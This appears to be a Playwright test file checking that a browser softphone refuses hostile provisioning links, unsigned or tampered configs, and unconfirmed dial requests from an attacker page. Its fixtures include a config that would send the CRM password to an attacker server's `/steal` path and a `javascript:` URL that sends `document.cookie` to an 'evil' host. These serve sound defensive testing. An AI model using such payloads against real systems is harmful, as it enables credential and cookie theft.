import { execFileSync } from 'node:child_process'
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import type { Page } from '@playwright/test'
import { startCrm } from '../lab/crm-server.mjs'
import { expect, labDeployment, nextUser, test, type Lab } from './fixtures'

/**
 * The trust model, played by an attacker against the real lab. IT's deploy.json (served next to
 * the phone) lists the CRM stand-in's origin; a second CRM stand-in plays the attacker's server,
 * and every request it receives is recorded: "sends nothing" means it saw none.
 */

type Crm = Awaited<ReturnType<typeof startCrm>>
let evil: Crm

test.beforeAll(async () => {
  evil = await startCrm({})
})
test.afterAll(async () => {
  await evil.stop()
})
test.beforeEach(({ lab }) => {
  lab.crm.clear()
  lab.crm.resetBehaviour()
  evil.clear()
  lab.setDeploy(labDeployment(lab))
})
test.afterEach(({ lab }) => {
  lab.setDeploy(labDeployment(lab))
})

/** IT's document: the lab PBX, CRM login with the agent's password, `cti` locked. */
function itSettings(lab: Lab) {
  return {
    locked: ['sip.server', 'cti'],
    popup: { anonymousLabel: '非通知' },
    cti: {
      target: 'custom',
      accesses: {
        auth: { method: 'get-internal', url: `${lab.crm.url}/login?userid={AID}&password={APW}`, format: '{SID}' },
        search: { method: 'get-internal', url: `${lab.crm.url}/search?tel={TEL}&sid={SID}`, format: '{NAME}{CRLF}{COMPANY}' },
      },
    },
    agent: { id: 'agent01', password: 'pass01' },
  }
}

/** The attack of the review: the CRM password to the attacker, `cti` locked, another PBX. */
function attack(user: string) {
  return {
    version: 1,
    sip: { server: 'ws://127.0.0.1:9/ws', user },
    popup: { anonymousLabel: 'PWNED' },
    cti: {
      target: 'custom',
      accesses: { auth: { method: 'get-internal', url: `${evil.url}/steal?u={AID}&p={APW}`, format: '{SID}' } },
    },
    locked: ['cti'],
  }
}

const base64url = (text: string) => Buffer.from(text).toString('base64url')

/** The record this browser saved (idb-keyval's default store), as JSON text. */
function savedRecord(page: Page): Promise<string> {
  return page.evaluate(() => new Promise<string>((resolve, reject) => {
    const open = indexedDB.open('keyval-store')
    open.onerror = () => reject(open.error)
    open.onsuccess = () => {
      const get = open.result.transaction('keyval').objectStore('keyval').get('tsunagu.settings')
      get.onsuccess = () => { resolve(JSON.stringify(get.result)); open.result.close() }
      get.onerror = () => reject(get.error)
    }
  }))
}

async function sipServerShown(page: Page): Promise<string> {
  await page.getByTestId('app-menu').click()
  await page.getByTestId('menu-settings').click()
  await page.getByTestId('settings-nav-sip').click()
  const value = await page.getByTestId('setting-sip.server').locator('input').inputValue()
  await page.getByTestId('settings-close').click()
  return value
}

test('a #config= link (hashConfig "off", the default) changes nothing, sends nothing and says why', async ({ phones, lab }) => {
  const user = nextUser()
  const { page } = await phones({ user, settings: itSettings(lab) })
  await expect(page.getByTestId('cti-status')).toHaveAttribute('data-state', 'ok')
  const before = await savedRecord(page)

  await page.goto(`${lab.appUrl}/#config=${base64url(JSON.stringify(attack(user)))}`)
  const refused = page.getByTestId('provisioning-refused')
  await expect(refused).toHaveAttribute('data-reason', 'hash-off')
  await expect(refused).toContainText('The settings from #config were refused')
  await expect(refused).toContainText('Nothing was changed')
  await expect(page.getByTestId('registration-status')).toHaveAttribute('data-state', 'registered')
  await expect(page.getByTestId('cti-status')).toHaveAttribute('data-state', 'ok')
  expect(await savedRecord(page)).toBe(before)

  // The next ordinary start: still IT's PBX and IT's CRM; the attacker's server never heard of us.
  lab.crm.clear()
  await page.goto(`${lab.appUrl}/`)
  await expect(page.getByTestId('registration-status')).toHaveAttribute('data-state', 'registered')
  await expect(page.getByTestId('cti-status')).toHaveAttribute('data-state', 'ok')
  expect(lab.crm.requests().map((r) => r.path)).toContain('/login')
  expect(await sipServerShown(page)).toBe(lab.kamailio.wsUrl)
  expect(evil.requests()).toEqual([])
})

test('a ?config= from an origin deploy.json does not list is never fetched, changes nothing and names the origin', async ({ phones, lab }) => {
  const user = nextUser()
  const { page } = await phones({ user, settings: itSettings(lab) })
  await expect(page.getByTestId('cti-status')).toHaveAttribute('data-state', 'ok')
  const before = await savedRecord(page)
  evil.setProvision('attack', attack(user))

  await page.goto(`${lab.appUrl}/?config=${encodeURIComponent(`${evil.url}/provision/attack.json`)}`)
  const refused = page.getByTestId('provisioning-refused')
  await expect(refused).toHaveAttribute('data-reason', 'origin')
  await expect(refused).toContainText(`The settings from ${evil.url}/provision/attack.json were refused`)
  await expect(refused).toContainText(`${evil.url} is not an origin IT allows`)
  await expect(page.getByTestId('registration-status')).toHaveAttribute('data-state', 'registered')
  await expect(page.getByTestId('cti-status')).toHaveAttribute('data-state', 'ok')
  expect(await savedRecord(page)).toBe(before)
  // Not even a CORS preflight: the source was refused before anything was sent.
  expect(evil.requests()).toEqual([])
  expect(await sipServerShown(page)).toBe(lab.kamailio.wsUrl)
})

test('the same attack from a second tab while the phone runs changes nothing either', async ({ phones, lab }) => {
  const user = nextUser()
  const { page, context } = await phones({ user, settings: itSettings(lab) })
  await expect(page.getByTestId('cti-status')).toHaveAttribute('data-state', 'ok')
  const before = await savedRecord(page)
  evil.setProvision('attack', attack(user))
  const second = await context.newPage()
  await second.goto(`${lab.appUrl}/?config=${encodeURIComponent(`${evil.url}/provision/attack.json`)}`)
  await expect(second.getByTestId('provisioning-refused')).toHaveAttribute('data-reason', 'origin')
  await expect(second.getByTestId('line-elsewhere')).toBeVisible()
  const third = await context.newPage()
  await third.goto(`${lab.appUrl}/#config=${base64url(JSON.stringify(attack(user)))}`)
  await expect(third.getByTestId('provisioning-refused')).toHaveAttribute('data-reason', 'hash-off')
  expect(await savedRecord(page)).toBe(before)
  expect(evil.requests()).toEqual([])
  await second.close()
  await third.close()
  // The phone's tab, reloaded, starts from the same saved settings: IT's PBX and CRM.
  await page.goto(`${lab.appUrl}/`)
  await expect(page.getByTestId('cti-status')).toHaveAttribute('data-state', 'ok')
  expect(await sipServerShown(page)).toBe(lab.kamailio.wsUrl)
  expect(evil.requests()).toEqual([])
})

test('Japanese: the refusal is explained in Japanese', async ({ phones, lab }) => {
  const { page } = await phones({ user: nextUser(), contextOptions: { locale: 'ja-JP' } })
  await page.goto(`${lab.appUrl}/?config=${encodeURIComponent(`${evil.url}/provision/attack.json`)}`)
  await expect(page.getByTestId('provisioning-refused')).toContainText(`${evil.url} は IT 部門が許可した配信元ではありません`)
  expect(evil.requests()).toEqual([])
})

test('a listed origin provisions, and so does a #config= link signed with the documented openssl command (ECDSA P-256 and Ed25519)', async ({ browser, lab }) => {
  const dir = mkdtempSync(join(tmpdir(), 'tsunagu-sign-'))
  const sh = (command: string) => execFileSync('sh', ['-c', command], { cwd: dir, encoding: 'utf8' }).trim()
  try {
    sh('openssl genpkey -algorithm EC -pkeyopt ec_paramgen_curve:P-256 -out it-key.pem 2>/dev/null')
    sh('openssl genpkey -algorithm ed25519 -out it-ed25519.pem')
    const ecKey = sh('openssl pkey -in it-key.pem -pubout -outform DER | base64 -w0')
    const edKey = sh('openssl pkey -in it-ed25519.pem -pubout -outform DER | base64 -w0')
    // The second IT server is listed; its documents are as trusted as the phone's own origin's.
    const it2 = await startCrm({})
    lab.setDeploy({ provisioning: { origins: [lab.crm.url, it2.url], hashConfig: 'signed', publicKeys: [ecKey, edKey] }, dial: {} })
    try {
      const cases: [string, (user: string) => Promise<string>][] = [
        ['listed origin', async (user) => {
          it2.setProvision(user, { version: 1, sip: { server: lab.kamailio.wsUrl, domain: lab.kamailio.domain, user } })
          return `/?config=${encodeURIComponent(`${it2.url}/provision/${user}.json`)}`
        }],
        ['ECDSA P-256', async (user) => {
          writeFileSync(join(dir, 'config.json'), JSON.stringify({ version: 1, sip: { server: lab.kamailio.wsUrl, domain: lab.kamailio.domain, user } }))
          return `/#config=${sh('basenc --base64url -w0 config.json | tr -d =')}&sig=${sh('openssl dgst -sha256 -sign it-key.pem config.json | basenc --base64url -w0 | tr -d =')}`
        }],
        ['Ed25519', async (user) => {
          writeFileSync(join(dir, 'config.json'), JSON.stringify({ version: 1, sip: { server: lab.kamailio.wsUrl, domain: lab.kamailio.domain, user } }))
          return `/#config=${sh('basenc --base64url -w0 config.json | tr -d =')}&sig=${sh('openssl pkeyutl -sign -inkey it-ed25519.pem -rawin -in config.json | basenc --base64url -w0 | tr -d =')}`
        }],
      ]
      for (const [name, link] of cases) {
        const user = nextUser()
        const context = await browser.newContext({ permissions: ['microphone'] })
        try {
          const page = await context.newPage()
          await page.goto(`${lab.appUrl}${await link(user)}`)
          await expect(page.getByTestId('registration-status'), name).toHaveAttribute('data-state', 'registered')
          await expect(page.getByTestId('provisioning-problem'), name).toHaveCount(0)
          await expect.poll(() => lab.kamailio.locations(), name).toContain(user)

          // The same link with one byte of the document changed: refused, nothing applied.
          const url = new URL(page.url())
          if (url.hash) {
            const params = new URLSearchParams(url.hash.slice(1))
            const doc = Buffer.from(params.get('config')!, 'base64url').toString().replace(lab.kamailio.domain, 'evil.example')
            const tampered = await context.newPage()
            await tampered.goto(`${lab.appUrl}/?tab=2#config=${base64url(doc)}&sig=${params.get('sig')}`)
            await expect(tampered.getByTestId('provisioning-refused'), name).toHaveAttribute('data-reason', 'bad-signature')
          }
        } finally {
          await context.close()
        }
      }
      // Unsigned while "signed" is required: refused.
      const context = await browser.newContext({ permissions: ['microphone'] })
      const page = await context.newPage()
      await page.goto(`${lab.appUrl}/#config=${base64url(JSON.stringify(attack(nextUser())))}`)
      await expect(page.getByTestId('provisioning-refused')).toHaveAttribute('data-reason', 'unsigned')
      await context.close()
    } finally {
      await it2.stop()
    }
  } finally {
    rmSync(dir, { recursive: true, force: true })
  }
})

test('a lower-trust document (an unsigned link under hashConfig "any") cannot unlock or change what IT locked', async ({ phones, lab }) => {
  lab.setDeploy({ ...labDeployment(lab), provisioning: { origins: [lab.crm.url], hashConfig: 'any' } })
  const user = nextUser()
  const { page } = await phones({ user, settings: itSettings(lab) })
  await expect(page.getByTestId('cti-status')).toHaveAttribute('data-state', 'ok')

  const unlock = { ...attack(user), locked: [] }
  await page.goto(`${lab.appUrl}/#config=${base64url(JSON.stringify(unlock))}`)
  const kept = page.getByTestId('provisioning-kept-locked')
  await expect(kept).toContainText('these stayed as IT set them')
  await expect(kept).toContainText('sip.server')
  await expect(kept).toContainText('cti')
  await expect(kept).toContainText('locked')
  await expect(page.getByTestId('registration-status')).toHaveAttribute('data-state', 'registered')
  await expect(page.getByTestId('cti-status')).toHaveAttribute('data-state', 'ok')

  // The next ordinary start: the locks hold, the attacker's server got nothing.
  await page.goto(`${lab.appUrl}/`)
  await expect(page.getByTestId('registration-status')).toHaveAttribute('data-state', 'registered')
  await expect(page.getByTestId('cti-status')).toHaveAttribute('data-state', 'ok')
  await page.getByTestId('app-menu').click()
  await page.getByTestId('menu-settings').click()
  await page.getByTestId('settings-nav-sip').click()
  await expect(page.getByTestId('setting-sip.server')).toHaveAttribute('data-locked', 'true')
  await expect(page.getByTestId('setting-sip.server').locator('input')).toHaveValue(lab.kamailio.wsUrl)
  expect(evil.requests()).toEqual([])
})

test('javascript: and data: access URLs are refused at validation, in a provisioning document and in the settings screen', async ({ phones, lab }) => {
  const user = nextUser()
  const { page } = await phones({
    user,
    settings: { cti: { target: 'custom', accesses: { ring: { method: 'get', url: `${lab.crm.url}/crm/customer?tel={TEL}` } } }, agent: { id: 'agent01', password: 'pass01' } },
  })
  const bad = {
    cti: {
      target: 'custom',
      accesses: {
        ring: { method: 'get', url: 'javascript:fetch("//evil/"+document.cookie)' },
        search: { method: 'get-internal', url: 'data:text/plain,{NAME}' },
      },
    },
  }
  lab.crm.setProvision(`bad-${user}`, { version: 1, sip: { server: lab.kamailio.wsUrl, domain: lab.kamailio.domain, user }, ...bad })
  await page.goto(`${lab.appUrl}/?config=${encodeURIComponent(`${lab.crm.url}/provision/bad-${user}.json`)}`)
  const problem = page.getByTestId('provisioning-problem')
  await expect(problem).toContainText('has errors; the saved settings are kept')
  await expect(problem).toContainText('cti.accesses.ring.url: must start with http:// or https://')
  await expect(problem).toContainText('cti.accesses.search.url: must start with http:// or https://')
  await expect(page.getByTestId('registration-status')).toHaveAttribute('data-state', 'registered')

  await page.getByTestId('app-menu').click()
  await page.getByTestId('menu-settings').click()
  await page.getByTestId('settings-nav-custom').click()
  await page.getByTestId('access-tab-ring').click()
  const url = page.getByTestId('setting-cti.accesses.ring.url')
  await expect(url.locator('input')).toHaveValue(`${lab.crm.url}/crm/customer?tel={TEL}`)
  await url.locator('input').fill('javascript:alert(1)')
  await expect(url).toContainText('must start with http:// or https://')
  await expect(page.getByTestId('settings-save')).toBeDisabled()
})

/** Calls the phone page started: `phone.dial()` marks each one before it sends the INVITE. */
function dialsStarted(page: Page): Promise<number> {
  return page.evaluate(() => performance.getEntriesByName('tsunagu:dial').length)
}

/** A page on another origin (the attacker's server) that sends the agent to the phone with `?dial=`. */
async function openFromEvilPage(page: Page, phoneUrl: string): Promise<void> {
  await page.route(`${evil.url}/click.html`, (route) => route.fulfill({
    contentType: 'text/html',
    body: `<!doctype html><a id="go" href="${phoneUrl}">call</a><script>document.getElementById('go').click()</script>`,
  }))
  await page.goto(`${evil.url}/click.html`)
}

test('a ?dial= from a page IT does not trust shows the number and places no call until the agent clicks Call', async ({ phones, lab }) => {
  const callee = await phones({ user: nextUser() })
  const agent = await phones({ user: nextUser() })
  await openFromEvilPage(agent.page, `${lab.appUrl}/?dial=${encodeURIComponent(`tel:${callee.user}`)}`)

  await expect(agent.page.getByTestId('registration-status')).toHaveAttribute('data-state', 'registered')
  const confirm = agent.page.getByTestId('dial-confirm')
  await expect(confirm).toBeVisible()
  await expect(confirm.getByTestId('dial-confirm-number')).toHaveText(callee.user)
  await expect(confirm.getByTestId('dial-confirm-from')).toContainText(evil.url)
  // Registered and asking: the phone never started a call (its dial mark is absent), so no
  // INVITE left; the callee sees no call.
  expect(await dialsStarted(agent.page)).toBe(0)
  await expect(agent.page.getByTestId('call')).toHaveCount(0)
  await expect(callee.page.getByTestId('incoming-popup')).toHaveCount(0)

  await confirm.getByTestId('dial-confirm-call').click()
  await expect(callee.page.getByTestId('incoming-popup').getByTestId('popup-number')).toHaveText(agent.user)
  expect(await dialsStarted(agent.page)).toBe(1)
  await expect(agent.page.getByTestId('call')).toHaveAttribute('data-state', 'dialing')
  await callee.page.getByTestId('incoming-popup').getByTestId('popup-hangup').click()
  await expect(agent.page.getByTestId('idle')).toBeVisible()
})

test('Cancel places no call; a tel: hand-over from an untrusted page asks in the phone\'s tab; a sip: URI on another domain asks even from the trusted CRM', async ({ browser, phones, lab }) => {
  const callee = await phones({ user: nextUser() })
  const user = nextUser()
  lab.crm.setProvision(`consent-${user}`, { version: 1, sip: { server: lab.kamailio.wsUrl, domain: lab.kamailio.domain, user, password: '' } })
  const context = await browser.newContext({ permissions: ['microphone'] })
  try {
    const phoneTab = await context.newPage()
    await phoneTab.goto(`${lab.appUrl}/?config=${encodeURIComponent(`${lab.crm.url}/provision/consent-${user}.json`)}`)
    await expect(phoneTab.getByTestId('registration-status')).toHaveAttribute('data-state', 'registered')

    // A second tab, sent by the attacker's page: it hands over, the phone's tab asks.
    const linkTab = await context.newPage()
    await openFromEvilPage(linkTab, `${lab.appUrl}/?dial=${encodeURIComponent(`tel:${callee.user}`)}`)
    await expect(linkTab.getByTestId('line-handed-off')).toContainText(callee.user)
    const confirm = phoneTab.getByTestId('dial-confirm')
    await expect(confirm.getByTestId('dial-confirm-number')).toHaveText(callee.user)
    await expect(phoneTab.getByTestId('call')).toHaveCount(0)
    await confirm.getByTestId('dial-confirm-cancel').click()
    await expect(confirm).toHaveCount(0)
    expect(await dialsStarted(phoneTab)).toBe(0)
    await expect(phoneTab.getByTestId('call')).toHaveCount(0)
    await expect(callee.page.getByTestId('incoming-popup')).toHaveCount(0)
    await linkTab.close()

    // From the trusted CRM, a SIP address on another domain still asks.
    const sipTab = await context.newPage()
    await sipTab.goto(`${lab.appUrl}/?dial=${encodeURIComponent(`sip:${callee.user}@elsewhere.example`)}`, { referer: `${lab.crm.url}/crm/customer` })
    await expect(confirm.getByTestId('dial-confirm-number')).toHaveText(`${callee.user}@elsewhere.example`)
    await confirm.getByTestId('dial-confirm-cancel').click()
    await expect(confirm).toHaveCount(0)
    expect(await dialsStarted(phoneTab)).toBe(0)
  } finally {
    await context.close()
  }
})
